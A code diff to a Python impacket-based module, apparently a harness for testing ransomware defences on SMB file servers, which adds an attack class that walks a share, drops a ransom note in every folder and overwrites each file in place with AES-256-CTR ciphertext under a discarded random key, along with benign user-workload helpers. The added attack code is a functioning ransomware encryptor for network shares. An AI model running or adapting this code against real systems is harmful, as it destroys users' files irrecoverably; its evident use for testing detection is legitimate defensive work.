@@ -2,13 +2,18 @@
 
 import io
 import os
+import secrets
 import socket
+import string
 import sys
 import time
 
+from Cryptodome.Cipher import AES
+from Cryptodome.Random import get_random_bytes
 from impacket import nt_errors
 from impacket.nmb import NetBIOSError, NetBIOSTimeout
-from impacket.smb3structs import SMB2_DIALECT_30
+from impacket.smb3structs import (FILE_OVERWRITE_IF, FILE_READ_ATTRIBUTES, FILE_READ_DATA, FILE_WRITE_DATA,
+				  SMB2_DIALECT_30)
 from impacket.smbconnection import SMBConnection, SessionError
 
 NOTE_TEXT = (
@@ -207,3 +212,270 @@ def describe(e):
 	if isinstance(e, SessionError):
 		return status_name(e.getErrorCode())
 	return f"{type(e).__name__}: {e}"
+
+
+def walk(client, folder=""):
+	"""Share-relative paths of every file under folder, depth first in listing order (as the attacks walk)."""
+	files, dirs = client.list_dir(folder)
+	paths = [join(folder, f) for f in files]
+	for d in dirs:
+		paths += walk(client, join(folder, d))
+	return paths
+
+
+def env_folder(name, default=""):
+	"""A share-relative folder from the environment, '\\' separated, without leading or trailing separators."""
+	return os.environ.get(name, default).strip("/\\").replace("/", "\\")
+
+
+# ---------------------------------------------------------------- attacks
+
+class Attack:
+	"""What every attack family shares with classic.py: the walk (depth first; in each folder its note, its
+	files in listing order, then its subfolders), ATTACK_MAX_FILES and ATTACK_ROOT, the output lines and
+	the Windows-like reconnects. A family says what it does to one file (damage, then finish) and which
+	names are its own (skip). A file counts once its contents are lost, even when a later step (a rename)
+	is refused; a step retried after a dropped session never writes twice."""
+
+	note_name = None	# dropped in each folder before its files; None: no note
+	note_text = NOTE_TEXT
+
+	def __init__(self, client=None):
+		self.c = client or Client()
+		limit = os.environ.get("ATTACK_MAX_FILES")
+		self.limit = int(limit) if limit else None
+		self.root = env_folder("ATTACK_ROOT")
+		self.count = 0
+		self.started = False
+		self.key = get_random_bytes(32)
+
+	def cipher(self):
+		"""AES-256-CTR with the attack's key and a fresh nonce: one per file."""
+		return AES.new(self.key, AES.MODE_CTR, nonce=get_random_bytes(8))
+
+	def start(self):
+		if not self.started:
+			self.started = True
+			out(f"start {ms()}")
+
+	def full(self):
+		return self.limit is not None and self.count >= self.limit
+
+	def skip(self, name):
+		"""True for names the attack made itself (its note, its encrypted copies)."""
+		return name == self.note_name
+
+	def damage(self, path):
+		"""Destroys the contents of path; returns the ms of the first write, or None when the file was skipped."""
+		raise NotImplementedError
+
+	def finish(self, path):
+		"""What follows the damage (a rename); the file counts as lost whatever happens here."""
+
+	def file(self, path):
+		first = self.damage(path)
+		if first is None:
+			return False
+		try:
+			self.finish(path)
+		finally:
+			self.count += 1
+			out(f"encrypted {first} {ms()} /{path.replace(chr(92), '/')}")
+		return True
+
+	def drop_note(self, path):
+		self.c.retry(lambda: self.c.put(join(path, self.note_name), self.note_text))
+
+	def folder(self, path):
+		if self.full():
+			return
+		files, dirs = self.c.retry(lambda: self.c.list_dir(path))
+		self.start()
+		if self.note_name:
+			self.drop_note(path)
+		for name in files:
+			if self.full():
+				return
+			if self.skip(name):
+				continue
+			self.file(join(path, name))
+		for name in dirs:
+			self.folder(join(path, name))
+
+	def walk(self):
+		self.folder(self.root)
+
+	def run(self):
+		"""The whole attack with its output; exit status 0 also when the server stopped it."""
+		try:
+			self.c.connect()
+			self.walk()
+		except Refused as e:
+			self.start()
+			out(f"stopped {ms()} {e}")
+		finally:
+			self.c.close()
+		out(f"files_encrypted {self.count}")
+		return 0
+
+	# Steps, each retried on its own.
+
+	def rewrite(self, path, transform, length=None):
+		"""Reads path (its first length bytes, or all of it) and writes transform(data) back at offset 0
+		through the same handle, as in-place encryptors do. Returns the ms of the write, or None when
+		the file is gone, busy or refused."""
+		state = {}
+
+		def step():
+			if "first" in state:
+				return state["first"]
+			conn, tid = self.c.conn, self.c.tid
+			fid = conn.openFile(tid, path, desiredAccess=FILE_READ_DATA | FILE_WRITE_DATA)
+			try:
+				data = read_handle(conn, tid, fid, length)
+				if not data:
+					return None
+				new = transform(data)
+				first = ms()
+				conn.writeFile(tid, fid, new, 0)
+				state["first"] = first
+			finally:
+				try:
+					conn.closeFile(tid, fid)
+				except Exception:
+					pass
+			return first
+
+		return self.c.retry(step, skip_missing=True)
+
+	def read(self, path):
+		"""The whole file, or None when it is gone, busy or refused."""
+		def step():
+			conn, tid = self.c.conn, self.c.tid
+			fid = conn.openFile(tid, path, desiredAccess=FILE_READ_DATA)
+			try:
+				return read_handle(conn, tid, fid)
+			finally:
+				try:
+					conn.closeFile(tid, fid)
+				except Exception:
+					pass
+		return self.c.retry(step, skip_missing=True)
+
+	def write_new(self, path, data):
+		"""Creates (or truncates) path and writes data; returns the ms of the write, or None."""
+		state = {}
+
+		def step():
+			if "first" in state:
+				return state["first"]
+			conn, tid = self.c.conn, self.c.tid
+			fid = conn.createFile(tid, path, desiredAccess=FILE_WRITE_DATA | FILE_READ_ATTRIBUTES,
+					      creationDisposition=FILE_OVERWRITE_IF)
+			try:
+				first = ms()
+				conn.writeFile(tid, fid, data, 0)
+				state["first"] = first
+			finally:
+				try:
+					conn.closeFile(tid, fid)
+				except Exception:
+					pass
+			return first
+
+		return self.c.retry(step, skip_missing=True)
+
+	def rename_to(self, path, new):
+		"""True when path was renamed to new."""
+		return self.c.retry(lambda: self.c.rename(path, new) or True, skip_missing=True) is not None
+
+	def remove(self, path):
+		"""True when path was deleted."""
+		return self.c.retry(lambda: self.c.delete(path) or True, skip_missing=True) is not None
+
+
+def read_handle(conn, tid, fid, length=None):
+	"""Reads an open file from offset 0 to its end, or its first length bytes."""
+	data = bytearray()
+	while length is None or len(data) < length:
+		want = 1 << 20 if length is None else min(1 << 20, length - len(data))
+		chunk = conn.readFile(tid, fid, len(data), want)
+		if not chunk:
+			break
+		data += chunk
+	return bytes(data)
+
+
+def random_name(n, alphabet=string.ascii_lowercase):
+	"""n characters drawn from alphabet by the system's CSPRNG (ransomware does not use a seeded PRNG)."""
+	return "".join(secrets.choice(alphabet) for _ in range(n))
+
+
+# ---------------------------------------------------------------- workloads
+
+class Stopped(Exception):
+	"""A workload's user was refused: nothing more can work, the workload ends (already counted as failed)."""
+
+
+class Ops:
+	"""A benign workload's tally. Each user action runs once through the client's retries; one that fails,
+	or that needed a new session because the old one was cut, counts as failed (a user would have seen an
+	error). A refusal ends the workload: Stopped."""
+
+	def __init__(self, client):
+		self.c = client
+		self.ok = 0
+		self.failed = 0
+
+	def do(self, what, fn):
+		"""Runs fn as one action; returns its result (True when it has none), or None when it failed."""
+		before = self.c.reconnects
+		try:
+			r = self.c.retry(fn)
+			if self.c.reconnects != before:
+				raise RuntimeError("the session was cut and had to be opened again")
+			self.ok += 1
+			return True if r is None else r
+		except Refused as e:
+			self.failed += 1
+			print(f"{what}: refused: {e}", file=sys.stderr, flush=True)
+			raise Stopped(f"{what}: refused: {e}") from e
+		except Exception as e:
+			self.failed += 1
+			print(f"{what}: {describe(e)}", file=sys.stderr, flush=True)
+			return None
+
+	def fail(self, what):
+		self.failed += 1
+		print(what, file=sys.stderr, flush=True)
+
+	def report(self):
+		print(f"ops_ok {self.ok} ops_failed {self.failed}", flush=True)
+		return 1 if self.failed else 0
+
+
+def run_workload(body):
+	"""Connects as $SMB_USER, runs body(client, ops), prints the tally; exit status 1 when any action failed."""
+	client = Client()
+	ops = Ops(client)
+	try:
+		client.connect()
+		body(client, ops)
+	except Stopped as e:
+		print(f"stopped: {e}", file=sys.stderr, flush=True)
+	except Exception as e:
+		ops.fail(f"workload: {describe(e)}")
+	finally:
+		client.close()
+	return ops.report()
+
+
+def ensure_folder(client, ops, path):
+	"""Creates path and its parents when missing (each creation is one action)."""
+	parts = [p for p in path.split("\\") if p]
+	for i in range(1, len(parts) + 1):
+		sub = "\\".join(parts[:i])
+		parent = "\\".join(parts[:i - 1])
+		_, dirs = client.retry(lambda parent=parent: client.list_dir(parent))
+		if parts[i - 1] not in dirs:
+			ops.do(f"mkdir {sub}", lambda sub=sub: client.mkdir(sub))
